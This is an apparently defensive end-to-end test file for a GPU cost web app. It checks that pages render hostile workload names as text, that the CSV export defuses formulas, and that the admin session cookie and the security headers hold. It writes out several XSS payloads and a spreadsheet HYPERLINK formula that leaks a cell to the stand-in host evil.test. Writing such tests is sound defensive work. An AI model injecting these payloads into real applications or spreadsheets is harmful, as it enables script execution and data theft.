/**
 * The web app against hostile data and hostile requests, in Chromium on the
 * production build. A node sends names built to run script (GPU model,
 * hostname, job id, team, project, model, experiment, user, labels, cluster)
 * through the real ingest endpoint; every page is visited and its charts'
 * tooltips hovered: no script may run, the names must show as text, and the
 * page's CSV export must defuse formulas. The admin session must stay out of
 * page script's reach and refuse other sites; every response carries the
 * security headers; a path that does not decode answers 400.
 */
import { randomUUID } from "node:crypto";
import fs from "node:fs";
import { chromium, type Browser, type BrowserContext, type Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { IngestBatch, WireGpuWindow, WireJobWindow } from "../../server/wire/ingest-v1";
import { signInAsAdmin } from "../support/e2e-admin";
import { CHROMIUM_ARGS, CHROMIUM_PATH, buildAppIfNeeded, chromiumUnavailableReason, startE2eApp, type E2eApp } from "../support/e2e-app";
import { STATIC_PAGES, visitPage, type AppPage } from "../support/e2e-pages";
import { parseCsv } from "../support/parse-csv";

const skipReason = chromiumUnavailableReason();
if (skipReason) console.warn(`hostile-names.e2e: ${skipReason}`);
const log = (line: string) => console.log(`hostile-names.e2e: ${line}`);
const PAGE_TIMEOUT_MS = 30_000;
const MINUTE_MS = 60_000;

/** Each payload sets window.__xss or opens a dialog if it ever runs. */
const HOSTILE = {
  cluster: "<svg/onload=window.__xss='cluster'>",
  hostname: '"><img src=x onerror="window.__xss=\'hostname\'">',
  modelName: "<img src=x onerror=window.__xss='gpu-model'>",
  jobId: "</script><script>window.__xss='job'</script>",
  team: "<img src=x onerror=alert('team')>",
  project: '"><script>window.__xss="project"</script>',
  model: "javascript:alert('model')//<b>",
  experiment: "<b onmouseover=window.__xss='experiment'>exp</b>",
  user: "'><iframe src=javascript:alert('user')>",
  label: "<details open ontoggle=window.__xss='label'>",
} as const;
/** Workload names that a spreadsheet would run as formulas. */
const FORMULA_TEAM = '=HYPERLINK("http://evil.test/?leak="&A1,"click")';
const ALL_HOSTILE_NAMES = Object.values(HOSTILE);

function readyOf(name: string): string {
  const page = STATIC_PAGES.find((candidate) => candidate.name === name);
  if (!page) throw new Error(`no static page ${name}`);
  return page.ready;
}

/** One GPU's 60 s windows over [fromMs, toMs), and a job's on it when `jobId` is given. */
function windows(gpuUuid: string, fromMs: number, toMs: number, jobId: string | null): { gpuWindows: WireGpuWindow[]; jobWindows: WireJobWindow[] } {
  const gpuWindows: WireGpuWindow[] = [];
  const jobWindows: WireJobWindow[] = [];
  for (let startMs = fromMs; startMs < toMs; startMs += MINUTE_MS) {
    const endMs = startMs + MINUTE_MS;
    gpuWindows.push({ gpuUuid, startMs, endMs, sampleCount: 6, utilizationAvgPct: 70, utilizationMaxPct: 90, smActiveAvgPct: null, memoryUsedAvgMiB: 30_000, memoryUsedMaxMiB: 31_000, powerAvgW: 300, energyJ: 18_000 });
    if (jobId) jobWindows.push({ gpuUuid, jobExternalId: jobId, startMs, endMs, sampleCount: 6, processCount: 1, utilizationAvgPct: 70, memoryUsedAvgMiB: 29_000, memoryUsedMaxMiB: 30_000 });
  }
  return { gpuWindows, jobWindows };
}

describe.skipIf(skipReason !== null)("web app with hostile names, in Chromium", () => {
  let app: E2eApp | null = null;
  let browser: Browser | null = null;
  let context: BrowserContext;
  /** Dialogs any page opened (alert, confirm, prompt): a payload ran. */
  const dialogs: string[] = [];
  let hostileJobIngested = false;

  const request = async (method: string, apiPath: string, options: { token?: string | null; body?: unknown; headers?: Record<string, string> } = {}) => {
    const token = options.token === undefined ? app!.adminToken : options.token;
    return fetch(app!.baseUrl + apiPath, {
      method,
      headers: {
        ...(token ? { authorization: `Bearer ${token}` } : {}),
        ...(options.body === undefined ? {} : { "content-type": "application/json" }),
        ...options.headers,
      },
      body: options.body === undefined ? undefined : JSON.stringify(options.body),
    });
  };
  const api = async (method: string, apiPath: string, body?: unknown, token?: string) => {
    const response = await request(method, apiPath, { body, token });
    const text = await response.text();
    if (!response.ok) throw new Error(`${method} ${apiPath}: HTTP ${response.status} ${text}`);
    return JSON.parse(text) as Record<string, unknown>;
  };

  /** A node with hostile names sends two hours of a job whose every name is hostile, and one whose team is a formula. */
  async function ingestHostileNode(): Promise<void> {
    const { token } = (await api("POST", "/api/v1/node-tokens", { cluster: HOSTILE.cluster, hostname: HOSTILE.hostname })) as { token: string };
    await api("POST", "/api/v1/prices", { gpuModel: HOSTILE.modelName, costPerGpuHour: 2.5, effectiveFrom: new Date(Date.now() - 30 * 86_400_000).toISOString() });
    const endMs = Math.floor(Date.now() / MINUTE_MS) * MINUTE_MS - MINUTE_MS;
    const startMs = endMs - 120 * MINUTE_MS;
    const gpus = [0, 1].map((index) => ({ uuid: `GPU-hostile-${index}`, index, modelName: HOSTILE.modelName, memoryTotalMiB: 81_920, migParentUuid: null, migProfile: null }));
    const job = (externalId: string, team: string) => ({
      externalId,
      kind: "training" as const,
      requestedGpus: 1,
      team,
      project: HOSTILE.project,
      model: HOSTILE.model,
      experiment: HOSTILE.experiment,
      user: HOSTILE.user,
      labels: { xss: HOSTILE.label },
    });
    const first = windows("GPU-hostile-0", startMs, endMs, "hostile-labels");
    const second = windows("GPU-hostile-1", startMs, endMs, "formula-team");
    const batch: IngestBatch = {
      schemaVersion: 1,
      batchId: randomUUID(),
      node: { hostname: HOSTILE.hostname, labels: { xss: HOSTILE.label } },
      collector: { version: "test", source: "simulator", failedPolls: 0 },
      gpus,
      jobs: [job("hostile-labels", HOSTILE.team), job("formula-team", FORMULA_TEAM)],
      gpuWindows: [...first.gpuWindows, ...second.gpuWindows],
      jobWindows: [...first.jobWindows, ...second.jobWindows],
    };
    await api("POST", "/api/v1/ingest", batch, token);

    // A job id that is markup, in a batch of its own: the server may refuse ids outside a safe set (400 naming the
    // field); what it accepts must render as text.
    const earlier = windows("GPU-hostile-0", startMs - 60 * MINUTE_MS, startMs, HOSTILE.jobId);
    const response = await request("POST", "/api/v1/ingest", {
      token,
      body: { ...batch, batchId: randomUUID(), jobs: [job(HOSTILE.jobId, HOSTILE.team)], gpuWindows: earlier.gpuWindows, jobWindows: earlier.jobWindows },
    });
    const text = await response.text();
    expect([200, 400], text).toContain(response.status);
    if (response.status === 400) expect(text).toMatch(/externalId|jobExternalId/);
    hostileJobIngested = response.status === 200;
    log(`hostile job id: HTTP ${response.status}`);
  }

  beforeAll(async () => {
    const startedAt = Date.now();
    await buildAppIfNeeded(log);
    app = await startE2eApp({ fleet: { seed: 7, nodeCount: 2, gpusPerNode: 2, clusterName: "sim" }, backfillDays: 2, log });
    await ingestHostileNode();
    await api("POST", "/api/v1/recommendations/run", { lookbackDays: 2 });
    log(`app ready with hostile data after ${((Date.now() - startedAt) / 1000).toFixed(0)} s`);
    browser = await chromium.launch({ executablePath: CHROMIUM_PATH, args: CHROMIUM_ARGS, headless: true });
    context = await browser.newContext({ viewport: { width: 1440, height: 900 }, acceptDownloads: true });
    context.on("page", (page) =>
      page.on("dialog", (dialog) => {
        dialogs.push(`${page.url()}: ${dialog.type()} ${dialog.message()}`);
        void dialog.dismiss();
      }),
    );
  }, 15 * 60_000);

  afterAll(async () => {
    await browser?.close().catch(() => undefined);
    await app?.stop();
  }, 60_000);

  /** Moves the mouse over a grid of points on every chart, so each shows its tooltips; returns the tooltip texts seen. */
  async function hoverCharts(page: Page): Promise<string[]> {
    const seen = new Set<string>();
    const charts = page.locator('div[role="img"]');
    for (let index = 0; index < (await charts.count()); index++) {
      const chart = charts.nth(index);
      await chart.scrollIntoViewIfNeeded();
      const box = await chart.boundingBox();
      if (!box) continue;
      for (const yFraction of [0.12, 0.16, 0.2, 0.3, 0.5, 0.7]) {
        for (let step = 1; step <= 24; step++) {
          await page.mouse.move(box.x + (box.width * step) / 25, box.y + box.height * yFraction);
          await page.waitForTimeout(15);
          // ECharts puts the tooltip's HTML into the chart's element, beside the canvas.
          const text = await chart.evaluate((element) => [...element.querySelectorAll("div")].map((div) => (div.querySelector("canvas") ? "" : div.textContent ?? "")).join(" ").trim());
          if (text) seen.add(text);
        }
      }
    }
    await page.mouse.move(0, 0);
    return [...seen];
  }

  async function expectNoScriptRan(page: Page, where: string): Promise<void> {
    expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss), `a payload ran on ${where}`).toBeUndefined();
    expect(dialogs, `dialogs opened on ${where}`).toEqual([]);
  }

  it(
    "runs no script on any page, tooltips hovered, and shows the names as text",
    async () => {
      const experimentPath = `/experiments/${encodeURIComponent(HOSTILE.experiment)}?window=24h`;
      const modelPath = `/models/${encodeURIComponent(HOSTILE.model)}?window=24h`;
      const pages: (AppPage & { shows: string[]; tooltipShows?: string[] })[] = [
        { name: "overview", path: "/?window=24h", ready: readyOf("overview"), shows: [HOSTILE.model] },
        { name: "costs-team", path: "/costs?window=24h&aggregate=team", ready: readyOf("costs"), shows: [HOSTILE.team, FORMULA_TEAM], tooltipShows: [HOSTILE.team] },
        { name: "costs-node", path: "/costs?window=24h&aggregate=cluster,node", ready: readyOf("costs"), shows: [HOSTILE.cluster, HOSTILE.hostname], tooltipShows: [HOSTILE.cluster] },
        {
          name: "costs-names",
          path: "/costs?window=24h&aggregate=project,model,experiment,job,user",
          ready: readyOf("costs"),
          shows: [HOSTILE.project, HOSTILE.model, HOSTILE.experiment, HOSTILE.user, ...(hostileJobIngested ? [HOSTILE.jobId] : [])],
        },
        { name: "costs-label", path: "/costs?window=24h&aggregate=label:xss", ready: readyOf("costs"), shows: [HOSTILE.label], tooltipShows: [HOSTILE.label] },
        { name: "experiments", path: "/experiments?window=24h", ready: readyOf("experiments"), shows: [HOSTILE.experiment, HOSTILE.model] },
        { name: "experiment", path: experimentPath, ready: 'section[aria-label="Experiment summary"]', shows: [HOSTILE.experiment, "hostile-labels"] },
        { name: "model", path: modelPath, ready: 'section[aria-label="Model summary"]', shows: [HOSTILE.model, HOSTILE.experiment] },
        { name: "fleet", path: "/fleet?window=24h", ready: readyOf("fleet"), shows: [HOSTILE.hostname, HOSTILE.modelName], tooltipShows: [HOSTILE.modelName, HOSTILE.hostname] },
        { name: "recommendations", path: "/recommendations", ready: readyOf("recommendations"), shows: [] },
        { name: "estimate", path: "/estimate", ready: readyOf("estimate"), shows: [] },
        { name: "settings", path: "/settings", ready: readyOf("settings"), shows: [HOSTILE.modelName] },
      ];
      for (const appPage of pages) {
        const visit = await visitPage(context, app!.baseUrl, appPage, PAGE_TIMEOUT_MS);
        try {
          const tooltips = await hoverCharts(visit.page);
          await expectNoScriptRan(visit.page, appPage.path);
          const text = await visit.page.evaluate(() => document.body.innerText);
          for (const name of appPage.shows) expect(text, `${appPage.path} shows ${JSON.stringify(name)} as text`).toContain(name);
          for (const name of appPage.tooltipShows ?? []) {
            expect(tooltips.some((tooltip) => tooltip.includes(name)), `a tooltip on ${appPage.path} shows ${JSON.stringify(name)} as text; seen: ${tooltips.slice(0, 5).join(" | ")}`).toBe(true);
          }
          // Markup in a name would have become elements; an <img src=x> would have been requested.
          expect(await visit.page.locator("img[src='x'], iframe, svg[onload], details[ontoggle], b[onmouseover]").count(), `injected elements on ${appPage.path}`).toBe(0);
          expect(visit.consoleErrors, `console errors on ${appPage.path}`).toEqual([]);
          expect(visit.failedRequests, `failed requests on ${appPage.path}`).toEqual([]);
        } finally {
          await visit.page.close();
        }
      }
      // Every hostile name was checked on some page.
      const checked = new Set(pages.flatMap((appPage) => appPage.shows));
      expect(ALL_HOSTILE_NAMES.filter((name) => !checked.has(name) && (name !== HOSTILE.jobId || hostileJobIngested))).toEqual([]);
    },
    10 * 60_000,
  );

  it(
    "shows the hostile node in the admin's token list as text, and keeps the admin session out of page script's reach",
    async () => {
      const page = await context.newPage();
      try {
        await page.goto(`${app!.baseUrl}/settings`, { waitUntil: "load" });
        await signInAsAdmin(page, app!.adminToken);
        const tokens = page.locator('section[aria-label="Node tokens"] table tbody');
        await expect.poll(() => tokens.innerText(), { timeout: PAGE_TIMEOUT_MS }).toContain(HOSTILE.hostname);
        expect(await tokens.innerText()).toContain(HOSTILE.cluster);
        await expectNoScriptRan(page, "/settings signed in");

        // What page script can reach: cookies without HttpOnly, both storages, the page itself.
        const reachable = await page.evaluate(() => JSON.stringify({ cookie: document.cookie, session: { ...sessionStorage }, local: { ...localStorage }, html: document.documentElement.outerHTML }));
        expect(reachable).not.toContain(app!.adminToken);
        expect(await page.evaluate(() => document.cookie)).not.toContain("gpu_roi_admin");
        const [session] = (await context.cookies(app!.baseUrl + "/api")).filter((cookie) => cookie.name === "gpu_roi_admin");
        expect(session).toMatchObject({ httpOnly: true, sameSite: "Strict", path: "/api" });
        expect(session.value).not.toContain(app!.adminToken);

        await page.getByRole("button", { name: "Sign out" }).click();
        await page.locator('[data-admin-session="signed-out"]').waitFor({ state: "visible", timeout: PAGE_TIMEOUT_MS });
        expect((await context.cookies(app!.baseUrl + "/api")).filter((cookie) => cookie.name === "gpu_roi_admin")).toEqual([]);
      } finally {
        await page.close();
      }
    },
    2 * 60_000,
  );

  it(
    "exports the cost explorer's rows with formula names defused",
    async () => {
      const page = await context.newPage();
      try {
        await page.goto(`${app!.baseUrl}/costs?window=24h&aggregate=team&shareIdle=none`, { waitUntil: "load" });
        const table = page.locator("table.data-table").filter({ has: page.locator("caption", { hasText: "Cost by team" }) });
        await table.locator("tbody tr").first().waitFor({ state: "visible", timeout: PAGE_TIMEOUT_MS });
        const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Export CSV" }).click()]);
        const [, ...lines] = parseCsv(fs.readFileSync((await download.path())!, "utf8"));
        const names = lines.map((line) => line[0]);
        // The formula team's name arrives defused; the markup team's as it is (text, not a formula).
        expect(names).toContain(`'${FORMULA_TEAM}`);
        expect(names).toContain(HOSTILE.team);
        for (const line of lines) for (const field of line) expect(field, `field ${JSON.stringify(field)}`).not.toMatch(/^[=+\-@\t\r]/);
      } finally {
        await page.close();
      }
    },
    2 * 60_000,
  );
});

describe.skipIf(skipReason !== null)("admin session, security headers and malformed paths, over HTTP", () => {
  // The same server as above would do; a second one keeps these independent of the browser's state.
  let app: E2eApp | null = null;

  beforeAll(async () => {
    await buildAppIfNeeded(log);
    app = await startE2eApp({ fleet: { seed: 8, nodeCount: 1, gpusPerNode: 1, clusterName: "sim" }, backfillDays: 1, log });
  }, 15 * 60_000);
  afterAll(async () => {
    await app?.stop();
  }, 60_000);

  const sessionCookieFrom = (response: Response) => /^(gpu_roi_admin=[^;]*)/.exec(response.headers.get("set-cookie") ?? "")?.[1] ?? null;
  const setState = (headers: Record<string, string>) =>
    fetch(`${app!.baseUrl}/api/trpc/recommendations.setState`, {
      method: "POST",
      headers: { "content-type": "application/json", ...headers },
      body: JSON.stringify({ id: 999_999, state: "dismissed" }),
    });

  it("signs in with the admin token only, and accepts the session for changes only from the app's own origin", async () => {
    const wrong = await fetch(`${app!.baseUrl}/api/v1/admin-session`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ token: "wrong" }) });
    expect(wrong.status).toBe(401);
    expect(wrong.headers.get("set-cookie")).toBeNull();
    const signIn = await fetch(`${app!.baseUrl}/api/v1/admin-session`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ token: app!.adminToken }) });
    expect(signIn.status).toBe(200);
    const cookie = sessionCookieFrom(signIn)!;
    expect(cookie).not.toContain(app!.adminToken);
    expect(signIn.headers.get("set-cookie")).toMatch(/HttpOnly; SameSite=Strict/);
    expect(await (await fetch(`${app!.baseUrl}/api/v1/admin-session`, { headers: { cookie } })).json()).toMatchObject({ admin: true });

    // No recommendation 999999: NOT_FOUND means the request passed authentication.
    const sameOrigin = await setState({ cookie, origin: app!.baseUrl, "sec-fetch-site": "same-origin" });
    expect(sameOrigin.status, await sameOrigin.text()).toBe(404);
    const crossSite = await setState({ cookie, origin: "http://evil.test", "sec-fetch-site": "cross-site" });
    expect(crossSite.status).toBe(403);
    expect(await crossSite.text()).toContain("origin");
    expect((await setState({ cookie, origin: "http://evil.test" })).status).toBe(403);
    expect((await setState({ cookie })).status).toBe(403);
    expect((await setState({ origin: app!.baseUrl, "sec-fetch-site": "same-origin" })).status).toBe(401);
    // Scripts keep the bearer token, from anywhere.
    expect((await setState({ authorization: `Bearer ${app!.adminToken}`, origin: "http://evil.test" })).status).toBe(404);

    const signOut = await fetch(`${app!.baseUrl}/api/v1/admin-session`, { method: "DELETE", headers: { cookie } });
    expect(signOut.headers.get("set-cookie")).toMatch(/^gpu_roi_admin=; Path=\/api; Max-Age=0/);
  });

  it("sets the security headers on pages, API answers and static files, with a fresh script nonce per page", async () => {
    const page = await fetch(`${app!.baseUrl}/fleet`);
    const html = await page.text();
    const policy = page.headers.get("content-security-policy") ?? "";
    const nonce = /'nonce-([^']+)'/.exec(policy)?.[1];
    expect(nonce).toBeDefined();
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).not.toMatch(/script-src[^;]*'unsafe-inline'/);
    // Every script of the page carries the nonce.
    const scripts = [...html.matchAll(/<script\b[^>]*>/g)].map((match) => match[0]);
    expect(scripts.length).toBeGreaterThan(0);
    for (const script of scripts) expect(script).toContain(`nonce="${nonce}"`);
    const again = (await fetch(`${app!.baseUrl}/fleet`)).headers.get("content-security-policy");
    expect(again).not.toBe(policy);

    const staticPath = /src="(\/_next\/static\/[^"]+\.js)"/.exec(html)?.[1];
    expect(staticPath).toBeDefined();
    for (const path of ["/fleet", "/api/health", "/api/v1/prices", staticPath!, "/no-such-page"]) {
      const response = await fetch(app!.baseUrl + path);
      expect(response.headers.get("x-content-type-options"), path).toBe("nosniff");
      expect(response.headers.get("referrer-policy"), path).toBe("same-origin");
      expect(response.headers.get("x-frame-options"), path).toBe("DENY");
      expect(response.headers.get("content-security-policy"), path).toContain("frame-ancestors 'none'");
    }
    expect((await fetch(`${app!.baseUrl}/api/health`)).headers.get("content-security-policy")).toBe(
      "default-src 'none'; frame-ancestors 'none'; base-uri 'none'; form-action 'none'",
    );
  });

  it("hands ingest a body larger than the proxy's 10 MB copy whole, with the security headers", async () => {
    const issued = await fetch(`${app!.baseUrl}/api/v1/node-tokens`, {
      method: "POST",
      headers: { authorization: `Bearer ${app!.adminToken}`, "content-type": "application/json" },
      body: JSON.stringify({ cluster: "sim", hostname: "large-body-node" }),
    });
    const { token } = (await issued.json()) as { token: string };
    const batch = { schemaVersion: 1, batchId: randomUUID(), node: { hostname: "large-body-node" }, gpus: [], jobs: [], gpuWindows: [], jobWindows: [] };
    // Valid JSON of 11 MB whose batch comes last: a body cut at 10 MB would not parse.
    const response = await fetch(`${app!.baseUrl}/api/v1/ingest`, {
      method: "POST",
      headers: { authorization: `Bearer ${token}`, "content-type": "application/json" },
      body: " ".repeat(11 * 1024 * 1024) + JSON.stringify(batch),
    });
    expect(response.status, await response.clone().text()).toBe(200);
    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
    expect(response.headers.get("content-security-policy")).toBe("default-src 'none'; frame-ancestors 'none'; base-uri 'none'; form-action 'none'");
  });

  it("answers 400 to a path segment that is not valid percent-encoded UTF-8, JSON for the API", async () => {
    for (const path of ["/api/v1/experiments/%ff%fe", "/api/v1/recommendations/%ff/plan", "/api/v1/experiments/a%zz"]) {
      const response = await fetch(app!.baseUrl + path);
      expect(response.status, path).toBe(400);
      const body = await response.json();
      expect(body.error, path).toMatchObject({ status: 400, field: "path" });
    }
    for (const path of ["/experiments/%ff", "/models/%ff"]) {
      const response = await fetch(app!.baseUrl + path);
      expect(response.status, path).toBe(400);
      expect(await response.text(), path).toContain("not a valid percent-encoded UTF-8 segment");
    }
    // A literal percent sign, escaped, is a name like any other.
    expect((await fetch(`${app!.baseUrl}/api/v1/experiments/50%25-done`)).status).not.toBe(400);
  });
});
